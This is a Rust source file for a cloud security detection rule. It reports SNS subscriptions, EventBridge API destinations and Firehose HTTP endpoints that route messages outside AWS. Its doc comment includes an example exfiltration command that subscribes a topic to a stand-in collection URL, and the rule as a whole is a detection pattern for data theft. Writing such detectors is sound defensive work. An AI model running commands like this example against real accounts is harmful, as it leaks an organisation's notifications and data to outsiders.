use patrol_core::{
    ApiCall, Context, Event, Findings, Metadata, Pattern, Result, Rule, Severity, rule,
};

use crate::shared::{DeploymentPrincipals, Names, UNNAMED, found, hidden_request, report};

rule! {
    /// Reports notifications, events or logs being set to be sent to an address outside AWS.
    ///
    /// These are SNS subscriptions of email addresses, web addresses and phone numbers, EventBridge
    /// API destinations, and HTTP endpoints of Firehose streams. SNS may leave the address out of
    /// the record. `telemetrySentToStranger` reports other AWS accounts.
    ///
    /// The severity is low, because most such addresses are those of people on call and of
    /// monitoring services.
    ///
    /// # Why
    /// A subscription sends every message to the attacker immediately, and nobody notices one
    /// receiver more.
    ///
    /// # Example
    /// `aws sns subscribe --topic-arn arn:aws:sns:us-east-1:111122223333:orders --protocol https
    /// --notification-endpoint https://collect.example.net/`.
    ///
    /// # Respond
    /// Find out whose address it is. If nobody knows, delete the subscription or destination, and
    /// check what was sent since.
    pub struct SentOutsideAws = "sentOutsideAws" {
        /// Addresses that may receive messages, comma separated, such as `*@example.com` and
        /// `https://events.example.com/*`; `*` and `?` are wildcards.
        trusted_addresses: Names = "",
        /// Principals whose changes are expected and not reported.
        deployment_principals: DeploymentPrincipals,
    }
}

impl Rule for SentOutsideAws {
    type Detail = ApiCall;
    const META: Metadata = Metadata::new(Severity::Low)
        .attack(["T1537", "T1020"])
        .groups(["baseline", "exposure"])
        .since("0.1.0")
        .reports_omitted();

    fn pattern() -> Pattern {
        Pattern::api_call_of_any(&[
            (
                "events.amazonaws.com",
                &["CreateApiDestination", "UpdateApiDestination"],
            ),
            (
                "firehose.amazonaws.com",
                &["CreateDeliveryStream", "UpdateDestination"],
            ),
            ("sns.amazonaws.com", &["Subscribe"]),
        ])
        .succeeded()
    }

    async fn check(&self, event: &Event<ApiCall>, _: &Context) -> Result<Findings> {
        let call = &event.detail;
        if self.deployment_principals.matches(&call.user_identity) {
            return Ok(Findings::none());
        }
        if let Some(hidden) = hidden_request(event, "whether it sends something outside AWS") {
            return Ok(hidden.into());
        }
        let address = match call.event_name.as_str() {
            "Subscribe" => match found(call, &["protocol"]) {
                Some(protocol) if OUTSIDE.contains(&protocol) => {
                    Some(found(call, &["endpoint"]).unwrap_or(UNNAMED))
                }
                _ => None,
            },
            "CreateApiDestination" | "UpdateApiDestination" => found(call, &["invocationEndpoint"]),
            // In `httpEndpointDestinationConfiguration` or `httpEndpointDestinationUpdate`.
            _ => found(call, &["url"]),
        };
        let Some(address) = address.filter(|address| !self.trusted_addresses.matches(address))
        else {
            return Ok(Findings::none());
        };
        let from = found(call, &["topicArn", "deliveryStreamName", "name"]).unwrap_or(UNNAMED);
        let did = match from {
            UNNAMED => "set messages to be sent outside AWS".to_owned(),
            from => format!("set what goes through {from} to be sent outside AWS"),
        };
        let finding = report(event, "Sent outside AWS", &did, from);
        Ok(finding.detail("address", address).into())
    }
}

/// Protocols of subscriptions whose receivers are not AWS.
///
/// Source: [Subscribe](https://docs.aws.amazon.com/sns/latest/api/API_Subscribe.html).
const OUTSIDE: [&str; 5] = ["email", "email-json", "http", "https", "sms"];
